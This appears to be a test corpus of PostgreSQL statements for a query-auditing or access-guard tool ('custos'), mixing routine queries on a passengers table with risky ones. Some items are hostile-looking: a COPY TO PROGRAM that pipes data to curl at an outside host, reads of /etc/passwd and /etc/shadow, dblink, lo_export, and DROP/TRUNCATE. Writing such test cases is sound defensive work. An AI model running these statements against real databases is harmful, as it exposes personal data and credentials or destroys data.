SELECT * FROM passengers
---
SELECT id, phone FROM public.passengers WHERE id = 5 LIMIT 10
---
SELECT * FROM passengers LIMIT ALL
---
SELECT name FROM passengers FETCH FIRST 3 ROWS ONLY
---
SELECT p.* FROM passengers p JOIN bookings b ON b.pid = p.id LIMIT 5
---
SELECT count(*) FROM passengers WHERE phone LIKE '138%'
---
WITH recent AS (SELECT phone FROM passengers) SELECT * FROM recent
---
SELECT phone || '' FROM passengers; SELECT upper(name) FROM "Crew"."Staff"
---
INSERT INTO audit_copy SELECT phone FROM passengers
---
UPDATE passengers SET phone = '1' WHERE id = 2 RETURNING id
---
DELETE FROM passengers WHERE id = 3
---
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v
---
COPY passengers TO STDOUT
---
COPY (SELECT phone FROM passengers) TO STDOUT WITH (FORMAT csv)
---
COPY passengers FROM STDIN
---
COPY passengers TO '/tmp/p.csv'
---
COPY passengers TO PROGRAM 'curl -d @- http://x'
---
CREATE TABLE leak AS SELECT phone FROM passengers
---
SELECT phone INTO TEMP leak2 FROM passengers
---
CREATE TEMP TABLE scratch (a int)
---
CREATE VIEW v AS SELECT phone FROM passengers
---
CREATE MATERIALIZED VIEW mv AS SELECT * FROM passengers
---
DROP TABLE passengers
---
ALTER TABLE passengers ADD COLUMN x int
---
TRUNCATE passengers
---
SELECT pg_read_file('/etc/passwd')
---
SELECT pg_catalog.pg_read_binary_file('/etc/shadow')
---
SELECT * FROM dblink('host=x', 'select 1') AS t(a int)
---
SELECT lo_export(1234, '/tmp/x')
---
SET custos.purpose = 'fraud-review'
---
SET LOCAL custos.ticket TO 'JIRA-42'
---
RESET custos.purpose
---
RESET ALL
---
SET search_path TO app, public
---
SHOW server_version
---
BEGIN; SELECT 1; COMMIT
---
CALL refresh_stats(1)
---
DECLARE c CURSOR FOR SELECT * FROM passengers
---
FETCH 10 FROM c
---
PREPARE q(int) AS SELECT phone FROM passengers WHERE id = $1
---
EXECUTE q(1)
---
EXPLAIN ANALYZE DELETE FROM passengers
---
NOTIFY ch, 'payload'
---
SELECT row_to_json(p) FROM passengers p
---
SELECT string_agg(phone, ',') FROM passengers
---
SELECT phone FROM passengers /* custos_purpose='fraud%20review',custos_ticket='T-1' */
---
/* custos_user='alice%40example.com',custos_ts='1700000000',custos_sig='ab' */ SELECT 1
---
SELECT '/* custos_purpose=''fake'' */'
---
SELECT 1 /* not a commenter comment */
---
SELECT a FROM t UNION SELECT b FROM u LIMIT 1
---
-- just a comment
